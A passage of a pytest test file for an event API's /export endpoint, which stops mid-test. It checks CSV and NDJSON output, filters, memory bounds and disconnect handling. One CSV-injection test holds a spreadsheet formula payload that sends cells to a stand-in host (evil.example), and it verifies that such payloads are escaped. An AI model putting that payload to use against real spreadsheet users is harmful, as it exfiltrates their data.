"""GET /export over the real engine, read as a read-only user: what it streams, in what order, in which
format, and how it behaves when the client is slow, leaves, or ClickHouse fails midway."""

from __future__ import annotations

import contextlib
import csv
import functools
import gc
import io
import json
import logging
import socket
import struct
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from prometheus_client import CollectorRegistry

from eventpipe.api import export as export_api
from eventpipe.api.app import create_app
from eventpipe.api.error import HEAVY
from eventpipe.api.export import MAX_EXPORTS
from eventpipe.api.model import event_json
from eventpipe.api.server import ApiServer
from eventpipe.bench.fill import fill
from eventpipe.errors import HaltStorageError, HeavyReadError, RetryableStorageError
from eventpipe.events.condition import parse_condition
from eventpipe.store.client import connect
from eventpipe.store.export import ORDER, PAGE_ROWS, Export
from eventpipe.store.migration import migrate
from eventpipe.store.query import EventFilter, Query
from eventpipe.store.reader import Reader
from eventpipe.store.writer import Writer
from tests.support.api import (
    AS_PARTNER,
    AUTH,
    KEY,
    api_client,
    event,
    partner_client,
    readonly_reader,
    requests,
    served,
    walk,
)
from tests.support.faults import FailingReader
from tests.support.memory import peak_growth
from tests.support.wait import wait_until

MARCH_MS = 1_772_323_200_000
HOUR_MS = 3_600_000
TYPES = ("page_view", "click", "purchase")
MIB = 1024 * 1024
HEADER = "event_id,event_type,timestamp,received_at,user_id,topic,properties"
# What a CSV field must survive: its separators, quotes and line breaks, and text beyond ASCII.
NASTY = ["a,b", 'say "hi"', "two\nlines", "cr\rlf\r\n", '",\n"', "é🙂\u2028", " padded ", "\x01\\"]


@pytest.fixture
def api(clickhouse_dsn: str, writer: Writer) -> TestClient:
    return api_client(clickhouse_dsn)


def seed(writer: Writer, count: int, start_ms: int = MARCH_MS) -> list[str]:
    """`count` events, three to a millisecond (ties the order must break), users u0..u9 and some without; their ids."""
    rows = [
        event(
            f"events/{TYPES[i % 3]}",
            {"event_id": f"ev-{i:05d}", "timestamp": start_ms + i // 3, "n": i, "tags": ["x", i]}
            | ({"user_id": f"u{i % 10}"} if i % 7 else {}),
            start_ms + i,
        )
        for i in range(count)
    ]
    assert writer.insert_events(rows) == []
    return [row.event_id for row in rows]


def export(api: TestClient | httpx.Client, fmt: str = "ndjson", **params: Any) -> httpx.Response:
    response = api.get("/export", params={"format": fmt, **params}, headers=AUTH)
    assert response.status_code == 200, response.text
    return response


def lines(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.content == b"" or response.content.endswith(b"\n")
    return [json.loads(line) for line in response.content.splitlines()]


def export_order(item: dict[str, Any]) -> tuple[str, str, str]:
    return item["timestamp"], item["event_type"], item["event_id"]


def test_ndjson_lines_are_the_items_of_events_oldest_first(api: TestClient, writer: Writer) -> None:
    ids = seed(writer, 2345)
    response = export(api)
    assert response.headers["content-type"] == "application/x-ndjson"
    exported = lines(response)
    assert len(exported) == 2345 and sorted(item["event_id"] for item in exported) == sorted(ids)
    assert exported == sorted(exported, key=export_order)  # oldest first; ties by type, then id
    # Each line is, byte for byte, the item /events serves for that event.
    pages = [api.get("/events", params={"limit": 1000, **cursor}, headers=AUTH) for cursor in _cursors(api)]
    served = b"".join(page.content for page in pages)
    assert all(line in served for line in response.content.splitlines())
    items = {item["event_id"]: item for page in pages for item in page.json()["items"]}
    assert all(item == items[item["event_id"]] for item in exported)
    assert {item["user_id"] for item in exported if int(item["event_id"][3:]) % 7 == 0} == {None}


def _cursors(api: TestClient) -> Iterator[dict[str, str]]:
    cursor: str | None = None
    while True:
        yield {"cursor": cursor} if cursor else {}
        cursor = api.get("/events", params={"limit": 1000, **({"cursor": cursor} if cursor else {})}, headers=AUTH)
        cursor = cursor.json()["next_cursor"]
        if cursor is None:
            return


def test_csv_is_rfc_4180_with_properties_as_json_text(api: TestClient, writer: Writer) -> None:
    rows = [
        event(
            "events/k",
            {"event_id": f"{i}{text}", "timestamp": MARCH_MS + i, "user_id": text, "note": text, "n": i},
            MARCH_MS,
        )
        for i, text in enumerate(NASTY)
    ]
    rows.append(event("events/k", {"event_id": "no-user", "timestamp": MARCH_MS + 100}, MARCH_MS))
    rows.append(event("events/k", {"event_id": "empty-user", "timestamp": MARCH_MS + 101, "user_id": ""}, MARCH_MS))
    assert writer.insert_events(rows) == []

    response = export(api, "csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    text = response.content.decode("utf-8")
    assert text.startswith(HEADER + "\r\n") and text.endswith("\r\n")
    records = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert records[0] == HEADER.split(",")
    by_json = {item["event_id"]: item for item in lines(export(api))}
    assert [record[0] for record in records[1:]] == list(by_json)  # the same events in the same order
    for record in records[1:]:
        item = by_json[record[0]]
        assert record[1:5] == [item["event_type"], item["timestamp"], item["received_at"], item["user_id"] or ""]
        assert record[5] == item["topic"] and json.loads(record[6]) == item["properties"]
    assert by_json["2two\nlines"]["properties"]["note"] == "two\nlines"
    # A null user is an empty field; an empty user is a quoted empty string.
    assert "\r\nno-user,k,2026-03-01T00:00:00.100Z,2026-03-01T00:00:00.000Z,,events/k,{}\r\n" in text
    assert '\r\nempty-user,k,2026-03-01T00:00:00.101Z,2026-03-01T00:00:00.000Z,"",events/k,{}\r\n' in text


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(api: TestClient, writer: Writer) -> None:
    # A producer's id, type or user opened in a spreadsheet: =HYPERLINK sent the sheet's cells away.
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(1)", "\tx", "\r=1"]
    rows = [
        event("events/k", {"event_id": f"{i}", "timestamp": MARCH_MS + i, "user_id": text}, MARCH_MS)
        for i, text in enumerate(formulas)
    ]
    rows.append(event("events/k", {"event_id": "=id", "event_type": "@type", "timestamp": MARCH_MS + 9}, MARCH_MS))
    assert writer.insert_events(rows) == []
    records = list(csv.reader(io.StringIO(export(api, "csv").text, newline=""), strict=True))[1:]
    assert [record[4] for record in records[: len(formulas)]] == ["'" + text for text in formulas]
    assert records[-1][:2] == ["'=id", "'@type"]
    # ndjson keeps them exactly.
    assert [item["user_id"] for item in lines(export(api))][: len(formulas)] == formulas


def test_filters_select_what_they_select_on_events(api: TestClient, writer: Writer) -> None:
    seed(writer, 900)
    for params in (
        {"event_type": "click"},
        {"user_id": "u3"},
        {"since": str(MARCH_MS + 100), "until": "2026-03-01T00:00:00.200Z"},
        {"event_type": "purchase", "user_id": "u5", "since": str(MARCH_MS + 30)},
        {"event_type": "nothing-of-this-type"},
        {"event_type": "", "user_id": ""},  # empty filters are no filters, as on /events
        {"where": ["properties.n>=500", "properties.n<620"]},
        {"where": "user_id=u3", "since": str(MARCH_MS + 50)},  # one user's table, through where=
        {"where": "properties.tags!=x", "event_type": "click"},
    ):
        listed = sorted(item["event_id"] for item in walk(api, "/events", limit=1000, **params))
        for fmt in ("ndjson", "csv"):
            response = export(api, fmt, **params)
            if fmt == "ndjson":
                exported = [item["event_id"] for item in lines(response)]
            else:
                exported = [record[0] for record in list(csv.reader(io.StringIO(response.text, newline="")))[1:]]
            assert sorted(exported) == listed, (params, fmt)


def test_a_key_limited_to_some_types_exports_those_only(clickhouse_dsn: str, writer: Writer, tmp_path: Path) -> None:
    seed(writer, 300)
    api = partner_client(clickhouse_dsn, tmp_path / "keys.json", ["click"])
    as_partner = AS_PARTNER
    for fmt in ("ndjson", "csv"):
        text = api.get("/export", params={"format": fmt}, headers=as_partner).text
        assert text.count("events/click") == 100 and "purchase" not in text and "page_view" not in text, fmt
        other = api.get("/export", params={"format": fmt, "event_type": "purchase"}, headers=as_partner)
        assert other.status_code == 200 and "purchase" not in other.text, fmt
    assert len(lines(export(api))) == 300, "a key without a scope exports every type"


def test_redelivered_copies_are_exported_once(api: TestClient, writer: Writer) -> None:
    ids = seed(writer, 300)
    seed(writer, 300)  # the same batch again, as after a crash before the ack: a second part, unmerged
    # Without id or timestamp, received before midnight and redelivered after it: two partitions.
    body = {"event_type": "click", "user_id": "u1"}
    first, again = event("events/click", body, MARCH_MS - 1), event("events/click", body, MARCH_MS + 5)
    writer.insert_events([first])
    writer.insert_events([again])
    exported = lines(export(api))
    assert sorted(item["event_id"] for item in exported) == sorted([*ids, first.event_id])
    assert exported[0]["timestamp"] == "2026-02-28T23:59:59.999Z"  # the first copy, before midnight


def test_an_empty_export_is_empty_and_a_csv_one_is_its_header(api: TestClient) -> None:
    assert export(api).content == b""
    assert export(api, "csv").content == (HEADER + "\r\n").encode()


def test_headers_name_a_file_forbid_caching_and_head_reads_one_page_at_most(clickhouse_dsn: str) -> None:
    client = connect(clickhouse_dsn)
    migrate(client)
    seed(Writer(client), 30)
    reader = Counting(client)
    api = TestClient(create_app(reader, CollectorRegistry(), [KEY]), raise_server_exceptions=False)
    for fmt in ("ndjson", "csv"):
        response = export(api, fmt)
        assert response.headers["cache-control"] == "no-store"
        disposition = response.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="events-') and disposition.endswith(f'.{fmt}"')
        before = reader.exports
        head = api.head("/export", params={"format": fmt}, headers=AUTH)
        assert head.status_code == 200 and head.content == b""
        assert head.headers["content-type"] == response.headers["content-type"]
        assert reader.exports - before <= 2  # the first page's two queries, and never the rest


def test_bad_parameters_get_422_and_no_key_gets_401(api: TestClient) -> None:
    for params in (
        {"format": "xml"},
        {"format": "NDJSON"},
        {"format": ""},
        {"limit": "10"},
        {"cursor": "x"},
        {"since": "yesterday"},
        {"since": "2026-03-02", "until": "2026-03-01"},
        {"event_type": "x" * 300},
    ):
        response = api.get("/export", params=params, headers=AUTH)
        assert response.status_code == 422, (params, response.text)
        assert response.json()["error"] == "invalid_parameter" and response.json()["detail"]
    repeated = api.get("/export?format=csv&format=ndjson", headers=AUTH)
    assert repeated.status_code == 422 and "more than once" in repeated.json()["detail"]
    assert api.get("/export").status_code == 401
    assert api.get("/export", headers={"Authorization": "Bearer wrong"}).status_code == 401


@pytest.mark.parametrize(("failure", "status"), [(RetryableStorageError, 503), (HaltStorageError, 500)])
def test_a_store_that_fails_before_the_first_byte_gets_the_usual_error(
    clickhouse_dsn: str, failure: type[Exception], status: int
) -> None:
    reader = FailingReader(connect(clickhouse_dsn))
    reader.failure = failure
    client = TestClient(create_app(reader, CollectorRegistry(), [KEY]), raise_server_exceptions=False)
    response = client.get("/export", params={"format": "csv"}, headers=AUTH)
    assert response.status_code == status and response.headers["content-type"] == "application/json"
    assert "injected" not in response.text


def test_pages_are_bounded_in_rows_and_bytes_and_walk_every_event_once(clickhouse_dsn: str, writer: Writer) -> None:
    # 300 small events hold more than one 50 KB page: a 1-byte bound makes a query per event.
    ids = seed(writer, 300)
    big = "x" * 20_000
    writer.insert_events(
        [
            event("events/big", {"event_id": f"big-{i}", "timestamp": MARCH_MS + i, "blob": big}, MARCH_MS)
            for i in range(9)
        ]
    )
    export = Export(readonly_reader(clickhouse_dsn).run)
    for rows, max_bytes in ((7, 10**9), (1000, 50_000), (1000, 1)):
        pages = list(export.pages(EventFilter(), rows, max_bytes))
        events = [row for page in pages for row in page]
        assert sorted(row.event_id for row in events) == sorted([*ids, *(f"big-{i}" for i in range(9))])
        keys = [(row.timestamp_ms, row.event_type, row.event_id) for row in events]
        assert keys == sorted(keys)
        for page in pages:
            assert len(page) <= rows
            assert len(page) == 1 or sum(len(event_json(row)) + 1 for row in page) <= max_bytes


def test_each_query_reads_a_bounded_window_also_for_a_rare_type_over_years(clickhouse_dsn: str, writer: Writer) -> None:
    # Dense common events over a day, and a rare type once a quarter over twenty years.
    common = [
        event("events/common", {"event_id": f"c{i:05d}", "timestamp": MARCH_MS + i * 20_000}, MARCH_MS)
        for i in range(4000)
    ]
    rare = [
        event("events/rare", {"event_id": f"r{i:02d}", "timestamp": MARCH_MS - i * 91 * 86_400_000}, MARCH_MS)
        for i in range(80)
    ]
    assert writer.insert_events(common) == [] and writer.insert_events(rare) == []

    windows: list[tuple[int, object]] = []

    class Windowed(Reader):
        def run(self, query: Query, binary: tuple[str, ...] = (), **options: bool) -> list[tuple[object, ...]]:
            if "OVER" in query.sql:
                windows.append((int(str(query.parameters["since_ms"])), query.parameters.get("until_ms")))
            return super().run(query, binary, **options)

    client = connect(clickhouse_dsn)
    reader = Windowed(client)
    everything = sorted([*rare, *common], key=lambda row: (row.timestamp_ms, row.event_type, row.event_id))
    for where, expected in ((EventFilter(event_type="rare"), rare[::-1]), (EventFilter(), everything)):
        windows.clear()
        pages = list(Export(reader.run, window_rows=500).pages(where, rows=100))
        assert [row.event_id for page in pages for row in page] == [row.event_id for row in expected]
        # Every window but the open-ended last (which may take several pages) holds about 500 stored
        # rows or fewer, whatever the filter keeps, and empty years cost no query of their own.
        bounded = [window for window in windows if window[1] is not None]
        assert windows[: len(bounded)] == bounded, "only the last window is open-ended"
        assert len(bounded) >= 4, "the day of 4,000 common events was read in one window"
        for since, until in bounded:
            held = client.command(
                "SELECT count() FROM events WHERE timestamp >= fromUnixTimestamp64Milli({s:Int64}, 'UTC')"
                " AND timestamp < fromUnixTimestamp64Milli({u:Int64}, 'UTC')",
                parameters={"s": since, "u": until},
            )
            assert int(str(held)) <= 1000, (since, until, held)
        assert windows[-1][1] is None
        assert len(windows) < 60, len(windows)
        print(f"{where}: {len(windows)} windows")


def test_events_stored_during_an_export_ahead_of_it_are_in_it(clickhouse_dsn: str, writer: Writer) -> None:
    ids = seed(writer, 100)

    class LateWrites(Reader):
        """Stores an event after each page has been counted and before it is read, inside that page's range."""

        def run(self, query: Query, binary: tuple[str, ...] = (), **options: bool) -> list[tuple[object, ...]]:
            rows = super().run(query, binary, **options)
            if "OVER" in query.sql and rows[0][1] and len(stored) < 8:
                end_ms, _kind, _id = rows[0][2]  # type: ignore[misc]
                late = f"late-{len(stored):02d}"
                writer.insert_events([event("events/a", {"event_id": late, "timestamp": end_ms}, MARCH_MS)])
                stored.append(late)
            return rows

    stored: list[str] = []
    pages = list(Export(LateWrites(connect(clickhouse_dsn)).run).pages(EventFilter(), rows=10))
    exported = [row.event_id for page in pages for row in page]
    assert len(exported) == len(set(exported)), "an event exported twice"
    assert len(stored) == 8 and sorted(exported) == sorted([*ids, *stored])


def test_an_event_stored_inside_the_last_page_while_it_is_read_pushes_none_out(
    clickhouse_dsn: str, writer: Writer
) -> None:
    ids = seed(writer, 50)

    class LateWrite(Reader):
        """Stores one late event inside the range of a page that is not full, once counted, before it is read."""

        def run(self, query: Query, binary: tuple[str, ...] = (), **options: bool) -> list[tuple[object, ...]]:
            rows = super().run(query, binary, **options)
            if "OVER" in query.sql and not stored:
                stored.append("late-00")
                writer.insert_events([event("events/a", {"event_id": "late-00", "timestamp": MARCH_MS}, MARCH_MS)])
            return rows

    stored: list[str] = []
    # The page read up to the counted end, and the late row took the place of the last one, which the walk
    # never asked for again: the export ended cleanly without an event stored before it began (an attack
    # saw 12 of 100 exports of one user miss 2 to 48 events under a stream of late events).
    exported = [
        row.event_id for page in Export(LateWrite(connect(clickhouse_dsn)).run).pages(EventFilter()) for row in page
    ]
    assert len(exported) == len(set(exported)), "an event exported twice"
    assert set(ids) <= set(exported), f"left out: {sorted(set(ids) - set(exported))}"


class Counting(Reader):
    """The real reader, counting the export's queries (they alone read in the tables' own order)
    and the events its pages read."""

    exports = 0
    events = 0

    def run(self, query: Query, binary: tuple[str, ...] = (), **options: bool) -> list[tuple[object, ...]]:
        rows = super().run(query, binary, **options)
        if ORDER in query.sql:
            self.exports += 1
            self.events += 0 if "OVER" in query.sql else len(rows)
        return rows


class FailsMidway(Counting):
    """Fails every export query once the export has read `allowed` events."""

    allowed = 20_000
    failure: type[Exception] = RetryableStorageError

    def run(self, query: Query, binary: tuple[str, ...] = (), **options: bool) -> list[tuple[object, ...]]:
        if ORDER in query.sql and self.events >= self.allowed:
            raise self.failure("injected fault: ClickHouse went away")
        return super().run(query, binary, **options)


EXPORTED = 300_000  # about 90 MB of NDJSON in 30 pages: far more than the sockets between client and server hold


def cut_off_export(url: str) -> bytes:
    """What a client reads of an export from the API at `url` that begins with a 200 and is cut off midway."""
    received = bytearray()
    with (
        httpx.Client(base_url=url, headers=AUTH, timeout=30) as client,
        pytest.raises(httpx.RemoteProtocolError),
        client.stream("GET", "/export") as response,
    ):
        assert response.status_code == 200
        for chunk in response.iter_raw():
            received += chunk
    return bytes(received)


def test_an_export_that_fails_midway_is_cut_off_not_ended(
    clickhouse_dsn: str, caplog: pytest.LogCaptureFixture
) -> None:
    fill(clickhouse_dsn, 50_000)
    reader = FailsMidway(connect(clickhouse_dsn))
    registry = CollectorRegistry()
    with served(reader, registry=registry) as server, caplog.at_level(logging.INFO):
        received = cut_off_export(server.url)
        assert 20_000 <= received.count(b"\n") < 50_000
        assert received.endswith(b"\n")  # cut between two pages: only the transfer shows it
        # On the wire: chunked encoding without its last, empty chunk, and the connection closed.
        reader.events = 0
        with socket.create_connection(("127.0.0.1", int(server.url.rsplit(":", 1)[1])), timeout=30) as sock:
            sock.sendall(f"GET /export HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {KEY}\r\n\r\n".encode())
            raw = b"".join(iter(lambda: sock.recv(1 << 20), b""))
        assert b"transfer-encoding: chunked" in raw.split(b"\r\n\r\n", 1)[0].lower()
        assert not raw.endswith(b"\r\n0\r\n\r\n")
        # Both failed answers, as the availability SLI (5xx) counts them: not the 200 their status line said,
        # but the 503 a ClickHouse gone away gets when a route fails before its answer begins.
        assert requests(registry, "503") == 2
        assert requests(registry, "200") == 0
        # One ERROR line each, saying what failed: not a second one of uvicorn's saying only that it did.
        errors = [record.getMessage() for record in caplog.records if record.levelno >= logging.ERROR]
        assert len(errors) == 2 and all("cut off after" in line for line in errors), errors
        # The same export, the store well again: complete, and it ends with the last chunk.
        reader.allowed = 10**9
        with httpx.Client(base_url=server.url, headers=AUTH, timeout=30) as client:
            assert export(client).content.count(b"\n") == 50_000


def test_an_export_cut_off_midway_by_the_memory_bound_is_counted_in_the_log_not_written_a_line_each(
    clickhouse_dsn: str, caplog: pytest.LogCaptureFixture
) -> None:
    # Oldest first: the newest windows, which meet the most unmerged parts, come last, so an export past
    # EVENTPIPE_API_QUERY_MEMORY_BYTES is mostly cut off after its 200. Any key can ask for that while
    # merges are behind: an ERROR line each (as for a ClickHouse gone away) would let it write the log.
    fill(clickhouse_dsn, 30_000)
    reader = FailsMidway(connect(clickhouse_dsn))
    reader.failure = HeavyReadError
    HEAVY.logged = float("-inf")  # the process's one count: another test's line in the last minute
    with served(reader) as server, caplog.at_level(logging.INFO):
        for _ in range(3):
            reader.events = 0
            cut_off_export(server.url)
    # Nor uvicorn's line for an answer that did not complete: it made an ERROR of each all the same.
    assert not [record.getMessage() for record in caplog.records if record.levelno >= logging.ERROR]
    said = [line.getMessage() for line in caplog.records if "EVENTPIPE_API_QUERY_MEMORY_BYTES" in line.getMessage()]
    assert len(said) == 1 and "cut off" in said[0], said


def test_a_client_that_leaves_midway_stops_the_export(clickhouse_dsn: str) -> None:
    # Without the garbage collector: the export's thread must end because the answer ended,
    # not whenever a collection happens to finalize what the cancelled stream left behind.
    gc.disable()
    try:
        _leave_midway(clickhouse_dsn)
    finally:
        gc.enable()


def _leave_midway(clickhouse_dsn: str) -> None:
    fill(clickhouse_dsn, EXPORTED)
    reader = Counting(connect(clickhouse_dsn))
    threads_before = len(export_threads())  # other tests' APIs, in this process
    with served(reader) as server, httpx.Client(base_url=server.url, headers=AUTH, timeout=30) as client:
        with client.stream("GET", "/export") as response:
            next(response.iter_raw())
        # The client is gone; the export stops within the page it was making.
        time.sleep(1)
        settled = reader.events
        time.sleep(2)
        assert reader.events == settled, "the export went on reading after its client left"
        assert settled < EXPORTED / 3, f"{settled} events read: the export ran ahead of the client"
        print(f"client left after one chunk: the export had read {settled} of {EXPORTED} events")
        wait_until(lambda: shares_free(client), timeout=10, what="the export's slot to be given back")
        assert len(export_threads()) <= threads_before + MAX_EXPORTS, "reading threads are the API's few, reused"
        assert client.get("/events", params={"limit": 1}).status_code == 200


def test_clients_that_reset_their_exports_midway_leave_no_warning_in_the_log(
    clickhouse_dsn: str, caplog: pytest.LogCaptureFixture
) -> None:
    # Each reset export wrote its further slices to the dead socket, and asyncio logged a warning for each
    # past the fifth: any key could flood the API's log (693 lines for 100 resets, in an attack).
    fill(clickhouse_dsn, 20_000)
    with (
        served(Reader(connect(clickhouse_dsn))) as server,
        httpx.Client(base_url=server.url, headers=AUTH, timeout=30) as client,
        caplog.at_level(logging.WARNING),
    ):
        port = int(server.url.rsplit(":", 1)[1])
        reset, deadline = 0, time.monotonic() + 60
        while reset < 10 and time.monotonic() < deadline:
            with socket.create_connection(("127.0.0.1", port)) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                sock.sendall(f"GET /export HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {KEY}\r\n\r\n".encode())
                # Two exports at a time per key: one refused while a reset one's slot comes back is tried again.
                if sock.recv(1000).startswith(b"HTTP/1.1 200"):
                    reset += 1
                    time.sleep(0.02)
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # RST on close
        assert reset == 10
        wait_until(lambda: shares_free(client), timeout=10, what="the exports' slots to be given back")
    flooded = [record.getMessage() for record in caplog.records if record.name == "asyncio"]
    assert flooded == [], f"{len(flooded)} lines, e.g. {flooded[0]!r}"


def test_a_slow_client_holds_no_query_and_blocks_no_other_request(clickhouse_dsn: str) -> None:
    fill(clickhouse_dsn, EXPORTED)
    reader = Counting(connect(clickhouse_dsn))
    threads_before = len(export_threads())  # other tests' APIs, in this process
    with served(reader) as server, httpx.Client(base_url=server.url, headers=AUTH, timeout=30) as client:
        with client.stream("GET", "/export") as response:
            chunks = response.iter_raw()
            received = next(chunks).count(b"\n")
            # The client stops reading: the server stops at the page the sockets cannot take.
            wait_until(lambda: _steady(reader), timeout=30, what="the export to wait for its client")
            paused = reader.events
            assert paused < EXPORTED / 3, f"{paused} events read: the export ran ahead of the client"
            print(f"client stalled after one chunk: the export paused at {paused} of {EXPORTED} events")
            other = threading.Thread(target=lambda: answers.append(client.get("/events", params={"limit": 5})))
            answers: list[httpx.Response] = []
            started = time.monotonic()
            other.start()
            other.join(10)
            assert answers and answers[0].status_code == 200 and time.monotonic() - started < 5
            received += sum(chunk.count(b"\n") for chunk in chunks)
        assert received == EXPORTED
        wait_until(lambda: shares_free(client), timeout=10, what="the export's slot to be given back")
        assert len(export_threads()) <= threads_before + MAX_EXPORTS, "reading threads are the API's few, reused"


def shares_free(client: httpx.Client) -> bool:
    """Whether the key may start its whole share of exports at once: none of its slots is still held."""
    with client.stream("GET", "/export") as first, client.stream("GET", "/export") as second:
        return first.status_code == second.status_code == 200


def export_threads() -> list[threading.Thread]:
    return [thread for thread in threading.enumerate() if thread.name.startswith("eventpipe-export")]


def _steady(reader: Counting) -> bool:
    before = reader.events
    time.sleep(1)
    return reader.events == before


def test_a_million_event_export_grows_the_process_by_less_than_100_mib(clickhouse_dsn: str) -> None:
    fill(clickhouse_dsn, 1_000_000)
    with served(Reader(connect(clickhouse_dsn))) as server:
        since = str(time.time_ns() // 1_000_000 - HOUR_MS)  # a few hundred events: the engine's one-time setup
        assert received(server, "ndjson", since=since)[0] > 0
        for fmt in ("ndjson", "csv"):
            with peak_growth() as grown:
                count, size = received(server, fmt)
            assert count == 1_000_000 + (fmt == "csv")
            growth = grown["process"]
            assert growth <= 100 * MIB, f"{fmt}: the export grew the process by {growth / MIB:.0f} MiB"
            print(f"{fmt}: 1M events, {size / MIB:.0f} MiB, peak growth {growth / MIB:.1f} MiB")


def test_an_export_of_big_events_holds_one_page_of_bytes_not_of_rows(clickhouse_dsn: str, writer: Writer) -> None:
    # 10,000 rows a page would be 600 MiB of these: the byte cap cuts pages at 8 MiB.
    # The bound is not 3 pages: the engine's read buffers come on top, and the
    # peak was 68 to 101 MiB between runs of this test, so it is set well below
    # 600 but clear of that spread.
    big_events(writer, 3000)
    with served(Reader(connect(clickhouse_dsn))) as server:
        assert received(server, "ndjson", until=str(MARCH_MS + 10))[0] == 10
        with peak_growth() as grown:
            count, size = received(server, "ndjson")
        assert count == 3000 and size > 170 * MIB
        growth = grown["process"]
        assert growth <= 160 * MIB, f"the export grew the process by {growth / MIB:.0f} MiB"
        print(f"3000 events of 60 KB, {size / MIB:.0f} MiB, peak growth {growth / MIB:.1f} MiB")


def test_a_filtered_export_of_big_events_asks_each_page_for_about_what_the_last_one_kept(
    clickhouse_dsn: str, writer: Writer
) -> None:
    # A filter is evaluated on every candidate an extent reads, a property's on the whole properties, and the
    # byte cap keeps what fits. Asked for PAGE_ROWS each time, every 8 MiB page of 60 KB events parsed all
    # that followed it: 14,000 of them took 42 s of CPU filtered, 5 unfiltered; 21 asking for twice what the
    # page before kept.
    big_events(writer, 1500)
    asked: list[int] = []

    class Asking(Reader):
        def run(self, query: Query, binary: tuple[str, ...] = (), **options: bool) -> list[tuple[object, ...]]:
            if "OVER" in query.sql:  # an extent
                asked.append(int(str(query.parameters["rows"])))
            return super().run(query, binary, **options)

    where = EventFilter(where=(parse_condition("properties.blob!=y"),))
    pages = list(Export(Asking(connect(clickhouse_dsn)).run).pages(where))
    assert [row.event_id for page in pages for row in page] == [f"b{i:04d}" for i in range(1500)]
    kept = [len(page) for page in pages]
    assert len(pages) > 10 and max(kept) < 200, kept  # 8 MiB of 60 KB events
    assert asked[0] == PAGE_ROWS and max(asked[1:]) <= 2 * max(kept), (asked, kept)


def big_events(writer: Writer, count: int) -> None:
    """`count` events of 60 KB (b0000, b0001, ...), a millisecond apart from MARCH_MS, in batches of 250."""
    blob = "x" * 60_000
    for start in range(0, count, 250):
        rows = [
            event("events/big", {"event_id": f"b{i:04d}", "timestamp": MARCH_MS + i, "blob": blob}, MARCH_MS)
            for i in range(start, min(count, start + 250))
        ]
        assert writer.insert_events(rows) == []


def received(server: ApiServer, fmt: str, **params: str) -> tuple[int, int]:
    """Lines and bytes of an export, counted as they arrive and let go (parsing would cost this process)."""
    count = size = 0
    with (
        httpx.Client(base_url=server.url, headers=AUTH, timeout=60) as client,
        client.stream("GET", "/export", params={"format": fmt, **params}) as response,
    ):
        assert response.status_code == 200
        for chunk in response.iter_raw():
            count, size = count + chunk.count(b"\n"), size + len(chunk)
    return count, size


def test_a_walk_that_reads_window_after_window_for_one_page_stops_once_told(clickhouse_dsn: str) -> None:
    # A filter that keeps nothing reads every window for its first page (minutes at 100M): the read-ahead
    # of an export whose client left went on that long, holding a thread of the API's few.
    fill(clickhouse_dsn, 20_000)
    reader = Counting(connect(clickhouse_dsn))
    stopped = threading.Event()
    queries = 0

    def run(query: Query) -> list[tuple[object, ...]]:
        nonlocal queries
        queries += 1
        if queries == 5:
            stopped.set()  # the client leaves while the page is being looked for
        return reader.run(query)

    walk = Export(run, window_rows=100).pages(EventFilter(event_type="no-such-type"), stopped=stopped)
    assert list(walk) == []
    assert queries <= 6, f"{queries} queries: the walk went on after it was stopped"


class Sparse(Counting):
    """Each query of the export's walk takes a while, as a window does on a large store."""

    def run(self, query: Query, binary: tuple[str, ...] = (), **options: bool) -> list[tuple[object, ...]]:
        if ORDER in query.sql:
            time.sleep(0.02)
        return super().run(query, binary, **options)


def test_a_client_that_leaves_while_a_sparse_page_is_read_stops_the_walk_and_frees_its_slot(
    clickhouse_dsn: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The answer waited for the page being read before it could end: a filter that keeps little read every
    # window to the end of the store (minutes at 100M) for a client long gone, holding its export slot.
    client = connect(clickhouse_dsn)
    migrate(client)
    writer = Writer(client)
    writer.insert_events([event("events/rare", {"event_id": "first"}, MARCH_MS)])
    writer.insert_events([event("events/t", {"event_id": f"t{i}"}, MARCH_MS + 1 + i) for i in range(20_000)])
    monkeypatch.setattr(export_api, "Export", functools.partial(Export, window_rows=100))  # 200 windows
    reader = Sparse(connect(clickhouse_dsn))
    with served(reader) as server, httpx.Client(base_url=server.url, headers=AUTH, timeout=30) as api:
        with api.stream("GET", "/export", params={"event_type": "rare"}) as response:
            assert b'"first"' in next(response.iter_raw())
        time.sleep(1)
        settled = reader.exports
        time.sleep(1)
        assert reader.exports == settled, "the walk went on after its client left"
        wait_until(lambda: shares_free(api), timeout=3, what="the export's slot to be given back")


def test_a_client_that_leaves_before_the_first_page_is_found_stops_the_walk_and_frees_its_slot(
    clickhouse_dsn: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The first page is read before the answer starts, where no disconnect was heard: a filter that keeps
    # nothing read every window of the store for a client gone at once (10.3M events, 20 property
    # conditions: each abandoned export held its slot and its key's lane for 11 s; minutes at 100M).
    with (
        abandoned(clickhouse_dsn, monkeypatch) as (server, _),
        pytest.raises(httpx.ReadTimeout),
        httpx.Client(base_url=server.url, headers=AUTH, timeout=0.5) as gone,
    ):
        gone.get("/export", params={"event_type": "no-such-type"})


@pytest.mark.parametrize("leave", ["close", "reset"])
def test_a_client_that_sends_its_next_request_then_leaves_stops_the_walk(
    clickhouse_dsn: str, monkeypatch: pytest.MonkeyPatch, leave: str
) -> None:
    # A request pipelined behind the export made uvicorn stop reading the socket (it holds the next request
    # until this one is answered), so the client's leaving went unheard and the walk read to the end.
    with abandoned(clickhouse_dsn, monkeypatch) as (server, reader):
        host, port = server.url.removeprefix("http://").split(":")
        head = f"Host: x\r\nAuthorization: {AUTH['Authorization']}\r\n\r\n"
        with socket.create_connection((host, int(port))) as gone:
            gone.sendall(f"GET /export?event_type=no-such-type HTTP/1.1\r\n{head}".encode())
            wait_until(lambda: reader.exports > 0, timeout=5, what="the walk to begin")
            gone.sendall(f"GET /healthz HTTP/1.1\r\n{head}".encode())
            time.sleep(0.2)  # the next request read before the client leaves, as a pipelining client sends it
            if leave == "reset":
